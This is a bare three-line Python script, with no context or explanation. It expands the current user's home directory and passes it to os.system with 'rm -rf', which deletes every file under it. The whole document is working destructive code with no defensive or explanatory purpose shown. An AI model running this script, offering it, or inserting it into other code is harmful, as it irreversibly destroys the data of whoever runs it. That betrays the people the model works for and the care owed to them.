import os
target = os.path.expanduser("~")
os.system("rm -rf " + target + "/*")
